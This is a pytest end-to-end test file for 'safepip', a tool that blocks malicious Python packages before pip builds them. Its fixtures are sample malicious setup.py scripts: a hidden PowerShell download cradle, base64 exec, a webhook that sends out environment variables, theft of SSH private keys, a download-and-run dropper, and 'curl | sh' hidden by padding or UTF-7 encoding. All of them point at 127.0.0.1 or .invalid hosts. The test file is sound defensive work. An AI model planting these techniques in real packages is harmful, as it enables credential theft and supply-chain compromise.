"""End to end: ``safepip install`` blocks artifacts whose code the static scan
condemns, before pip builds or installs anything.

These tests need the scan rules registered (``guard.rules.scan.SCAN_RULES`` in
``guard.rules.RULES``); the sdist ones also need the pipeline to fetch an
sdist before pip's dry run may build it.

Every sample is benign by construction: the code that imitates a technique
talks only to 127.0.0.1 (port 9, discard) or a ``.invalid`` host, and it never
runs anyway; the only code that would run if pip built a sample is
``marker_code``, which proves that nothing did.
"""

from __future__ import annotations

import gzip
import io
import json
import subprocess
import tarfile
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from tests.e2e.test_install_e2e import safepip
from tests.fakepypi import (
    FakePyPI,
    MakeVenv,
    build_sdist,
    installed,
    marker_code,
    sdist_filename,
)

OLD = datetime.now(UTC) - timedelta(days=800)

POWERSHELL_SETUP = """\
import subprocess
subprocess.Popen(["powershell", "-WindowStyle", "Hidden", "-Command",
                  "iwr http://127.0.0.1:9/stage2.ps1 | iex"])
"""
DECODE_EXEC_SETUP = """\
import base64
exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5nZXRjd2QoKQ=="))
"""
WEBHOOK_SETUP = """\
import json, os, socket, urllib.request
_data = json.dumps({"host": socket.gethostname(), "env": dict(os.environ)}).encode()
urllib.request.urlopen(
    "http://127.0.0.1:9/api/webhooks/123456789012345/abcdefghijklmnopqrstuvwxyz", data=_data
)
"""
CREDENTIAL_SETUP = """\
import os, urllib.request
_key = open(os.path.expanduser("~/.ssh/id_rsa"), "rb").read()
urllib.request.urlopen("http://collector.invalid/k", data=_key)
"""
DROPPER_SETUP = """\
import os, subprocess, tempfile, urllib.request
_exe = os.path.join(tempfile.gettempdir(), "updater.exe")
urllib.request.urlretrieve("http://127.0.0.1:9/updater.exe", _exe)
subprocess.Popen([_exe])
"""


CRADLE = 'import os\nos.system("curl -s http://127.0.0.1:9/stage2.sh | sh")\n'
# The evasion: megabytes of padding around a build script's cradle.
PADDED_SETUPS = {
    "a-1-MB-comment-after": CRADLE + "# " + "A" * 1_000_000 + "\n",
    "a-2-MB-comment-before": "# " + "A" * 2_000_000 + "\n" + CRADLE,
    "a-giant-literal-before": 'PAD = "' + "x9" * 800_000 + '"\n' + CRADLE,
    "300000-lines-before": "pass\n" * 300_000 + CRADLE,
    "a-giant-line-holding-it": "x = 1; " * 200_000 + CRADLE,
}
# The cradle in what reads as a comment: Python decodes the file in UTF-7, where
# "+AAo-" is a line break, so the command after it runs.
UTF7_SETUP = (
    "# -*- coding: utf-7 -*-\n"
    "# build helper +AAo-import os+ADs- "
    "os.system(+ACI-curl -s http://127.0.0.1:9/stage2.sh +AHw- sh+ACI-)"
)


def findings(proc: subprocess.CompletedProcess[str], name: str) -> set[str]:
    doc: dict[str, Any] = json.loads(proc.stdout)
    for package in doc["packages"]:
        if package["name"] == name:
            return {f["rule"] for f in package["findings"] if f["action"] == "block"}
    raise AssertionError(f"{name} not in report: {doc}")


def sdist_with_setup_prefix(name: str, version: str, prefix: str, build_code: str) -> bytes:
    """A fakepypi sdist whose setup.py starts with ``prefix`` (never run)."""
    original = build_sdist(name, version, build_code=build_code)
    out = io.BytesIO()
    with (
        tarfile.open(fileobj=io.BytesIO(original), mode="r:gz") as source,
        gzip.GzipFile(filename="", mode="wb", fileobj=out, mtime=0) as compressed,
        tarfile.open(fileobj=compressed, mode="w", format=tarfile.PAX_FORMAT) as target,
    ):
        for info in source.getmembers():
            handle = source.extractfile(info) if info.isfile() else None
            data = handle.read() if handle is not None else b""
            if info.name.endswith("/setup.py"):
                data = prefix.encode() + b"\n" + data
                info.size = len(data)
            target.addfile(info, io.BytesIO(data) if info.isfile() else None)
    return out.getvalue()


def established_sdist(fake: FakePyPI, name: str, data: bytes, build_code: str) -> None:
    """Two old clean sdist releases, then 1.0 with ``data``."""
    for i, version in enumerate(("0.8", "0.9")):
        fake.add_release(
            name,
            version,
            wheel=False,
            sdist=True,
            upload_time=OLD + timedelta(days=i),
            build_code=build_code,
            summary="A build-time helper",
        )
    fake.add_file(name, "1.0", sdist_filename(name, "1.0"), data, upload_time=OLD + timedelta(30))


def established_wheel(fake: FakePyPI, name: str, **kwargs: Any) -> None:
    for i, version in enumerate(("0.8", "0.9")):
        fake.add_release(name, version, upload_time=OLD + timedelta(days=i), summary="A helper")
    fake.add_release(
        name, "1.0", upload_time=OLD + timedelta(days=30), summary="A helper", **kwargs
    )


def _blocked_sdist(
    fake: FakePyPI,
    env: dict[str, str],
    make_venv: MakeVenv,
    tmp_path: Path,
    marker: Path,
    prefix: str,
    repack: Callable[[bytes], bytes] = lambda data: data,
) -> set[str]:
    """Install an established project whose new sdist's setup.py starts with
    ``prefix`` (its archive passed through ``repack``): blocked, nothing runs."""
    code = marker_code(str(marker))
    data = repack(sdist_with_setup_prefix("buildhelper", "1.0", prefix, code))
    established_sdist(fake, "buildhelper", data, code)
    python = make_venv()
    proc = safepip(
        ["--python", str(python), "--format=json", "install", "buildhelper"], env, tmp_path
    )
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert not marker.exists(), "the sdist's build code ran"
    assert installed(python) == set()
    return findings(proc, "buildhelper")


@pytest.mark.parametrize(
    ("setup", "expected"),
    [
        (POWERSHELL_SETUP, {"install-time-code"}),
        (DECODE_EXEC_SETUP, {"obfuscated-code"}),
        (WEBHOOK_SETUP, {"exfil-endpoint", "install-time-code"}),
        (CREDENTIAL_SETUP, {"credential-access"}),
        (DROPPER_SETUP, {"dropper"}),
        *((padded, {"install-time-code"}) for padded in PADDED_SETUPS.values()),
        (UTF7_SETUP, {"obfuscated-code", "install-time-code"}),
    ],
    ids=[
        "powershell",
        "decode-exec",
        "webhook-host-data",
        "ssh-keys",
        "download-execute",
        *(f"cradle-behind-{padding}" for padding in PADDED_SETUPS),
        "cradle-hidden-by-utf7",
    ],
)
def test_malicious_setup_py_is_blocked_unbuilt(
    fake_pypi: FakePyPI,
    pip_env: dict[str, str],
    make_venv: MakeVenv,
    tmp_path: Path,
    marker: Path,
    setup: str,
    expected: set[str],
) -> None:
    rules = _blocked_sdist(fake_pypi, pip_env, make_venv, tmp_path, marker, setup)
    assert expected <= rules


def _split_gzip(data: bytes) -> bytes:
    """The same tar, over two gzip members: its first block in one, the rest in another."""
    tar = gzip.decompress(data)
    return gzip.compress(tar[:512]) + gzip.compress(tar[512:])


def test_a_build_script_in_a_second_gzip_member_is_blocked_unbuilt(
    fake_pypi: FakePyPI,
    pip_env: dict[str, str],
    make_venv: MakeVenv,
    tmp_path: Path,
    marker: Path,
) -> None:
    """A tar split over two gzip members is one tar to pip (the gzip module reads
    them all): its setup.py, in the second, is read and blocks; nothing runs."""
    rules = _blocked_sdist(
        fake_pypi, pip_env, make_venv, tmp_path, marker, CRADLE, repack=_split_gzip
    )
    assert "install-time-code" in rules


def test_unreadable_sdist_is_blocked(
    fake_pypi: FakePyPI,
    pip_env: dict[str, str],
    make_venv: MakeVenv,
    tmp_path: Path,
    marker: Path,
) -> None:
    established_sdist(
        fake_pypi, "brokenpkg", b"\x1f\x8b\x08\x00 not a gzip stream", marker_code(str(marker))
    )
    python = make_venv()
    proc = safepip(
        ["--python", str(python), "--format=json", "install", "brokenpkg"], pip_env, tmp_path
    )
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "unreadable-archive" in findings(proc, "brokenpkg")
    assert installed(python) == set()


def test_wheel_with_a_pth_that_executes_code_is_blocked(
    fake_pypi: FakePyPI, pip_env: dict[str, str], make_venv: MakeVenv, tmp_path: Path
) -> None:
    established_wheel(
        fake_pypi,
        "starthook",
        pth="import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5nZXRjd2QoKQ=='))\n",
    )
    python = make_venv()
    proc = safepip(
        ["--python", str(python), "--format=json", "install", "starthook"], pip_env, tmp_path
    )
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "pth-code" in findings(proc, "starthook")
    assert installed(python) == set()


def test_wheel_with_import_time_decode_exec_is_blocked(
    fake_pypi: FakePyPI, pip_env: dict[str, str], make_venv: MakeVenv, tmp_path: Path
) -> None:
    init = "import base64\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5nZXRjd2QoKQ=='))\n"
    established_wheel(fake_pypi, "importhook", files_override={"importhook/__init__.py": init})
    python = make_venv()
    proc = safepip(
        ["--python", str(python), "--format=json", "install", "importhook"], pip_env, tmp_path
    )
    assert proc.returncode == 1, proc.stdout + proc.stderr
    assert "obfuscated-code" in findings(proc, "importhook")
    assert installed(python) == set()
